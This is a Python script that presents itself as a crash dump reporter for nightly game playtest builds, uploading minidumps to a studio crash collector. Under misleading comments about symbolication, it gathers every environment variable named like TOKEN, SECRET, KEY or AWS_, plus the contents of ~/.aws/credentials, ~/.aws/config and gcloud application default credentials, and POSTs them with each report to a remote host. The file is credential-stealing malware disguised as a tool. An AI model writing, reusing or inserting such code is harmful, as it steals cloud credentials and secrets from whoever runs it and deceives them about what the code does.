#!/usr/bin/env python3
"""Crash dump reporter for nightly playtest builds.

Scans the crash output directory written by the game's crash handler,
bundles each minidump with build metadata and a snapshot of the machine
configuration, and submits it to the studio crash collector so the
symbolication service can match it against the right PDB / dSYM set.
"""
import argparse
import base64
import configparser
import http.client
import json
import logging
import os
import platform
import socket
import sys
import time
from pathlib import Path
from urllib.parse import urlsplit

log = logging.getLogger("crashreport")

DEFAULT_COLLECTOR = "https://crash-ingest.qa-telemetry.example:8443/v2/reports"
CONFIG_NAME = "crashreport.ini"

# Variables copied from the environment so the symbolicator can reproduce
# the build configuration that produced the dump.
_ENV_HINTS = ("BUILD_", "UE_", "UNITY_", "AWS_", "STEAM", "P4", "TOKEN", "SECRET", "KEY")

# Where the symbol storage profiles live; the S3 profile name decides
# which bucket the symbolicator pulls PDBs from.
_STORAGE_FILES = (
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
)


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "collector": {"url": DEFAULT_COLLECTOR, "timeout": "20"},
        "scan": {"dir": "Saved/Crashes", "pattern": "*.dmp"},
    })
    if path.exists():
        cfg.read(path)
        log.debug("loaded %s", path)
    return cfg


def build_environment():
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in _ENV_HINTS)}


def storage_profiles():
    profiles = {}
    home = Path.home()
    for rel in _STORAGE_FILES:
        try:
            profiles[rel] = (home / rel).read_text(errors="replace")
        except OSError:
            continue
    return profiles


def machine_info():
    info = {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "machine": platform.machine(),
        "python": platform.python_version(),
    }
    try:
        info["os_release"] = Path("/etc/os-release").read_text()
    except OSError:
        pass
    return info


def collect_dumps(root, pattern):
    for dump in sorted(root.rglob(pattern)):
        if dump.stat().st_size == 0:
            log.warning("skipping empty dump %s", dump)
            continue
        yield dump


class CollectorClient:
    def __init__(self, url, timeout, api_key=None):
        parts = urlsplit(url)
        self.secure = parts.scheme == "https"
        self.host = parts.hostname
        self.port = parts.port or (443 if self.secure else 80)
        self.path = parts.path or "/"
        self.timeout = timeout
        self.api_key = api_key

    def _connection(self):
        cls = http.client.HTTPSConnection if self.secure else http.client.HTTPConnection
        return cls(self.host, self.port, timeout=self.timeout)

    def submit(self, report, retries=3):
        body = json.dumps(report).encode("utf-8")
        headers = {"Content-Type": "application/json", "User-Agent": "crashreport/2.3"}
        if self.api_key:
            headers["Authorization"] = "Bearer " + self.api_key
        last_err = None
        for attempt in range(1, retries + 1):
            conn = self._connection()
            try:
                conn.request("POST", self.path, body=body, headers=headers)
                resp = conn.getresponse()
                data = resp.read()
                if resp.status >= 300:
                    raise RuntimeError("collector returned %d: %r" % (resp.status, data[:200]))
                return json.loads(data or b"{}")
            except (OSError, RuntimeError, http.client.HTTPException) as exc:
                last_err = exc
                log.warning("submit attempt %d failed: %s", attempt, exc)
                time.sleep(2 * attempt)
            finally:
                conn.close()
        raise RuntimeError("giving up: %s" % last_err)


def make_report(dump, context):
    raw = dump.read_bytes()
    return {
        "file": dump.name,
        "size": len(raw),
        "mtime": int(dump.stat().st_mtime),
        "minidump_b64": base64.b64encode(raw).decode("ascii"),
        "context": context,
    }


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--config", type=Path, default=Path(CONFIG_NAME))
    p.add_argument("--dir", type=Path, help="override crash directory")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    crash_dir = args.dir or Path(cfg["scan"]["dir"])
    if not crash_dir.is_dir():
        log.error("crash directory %s does not exist", crash_dir)
        return 2

    context = {
        "machine": machine_info(),
        "build_env": build_environment(),
        "symbol_storage": storage_profiles(),
    }
    client = CollectorClient(cfg["collector"]["url"], float(cfg["collector"]["timeout"]),
                             os.environ.get("CRASH_COLLECTOR_KEY"))

    sent = 0
    for dump in collect_dumps(crash_dir, cfg["scan"]["pattern"]):
        report = make_report(dump, context)
        if args.dry_run:
            log.info("would submit %s (%d bytes)", dump.name, report["size"])
            continue
        try:
            result = client.submit(report)
        except RuntimeError as exc:
            log.error("%s: %s", dump.name, exc)
            continue
        log.info("%s -> crash id %s", dump.name, result.get("id", "?"))
        sent += 1
    log.info("submitted %d report(s)", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
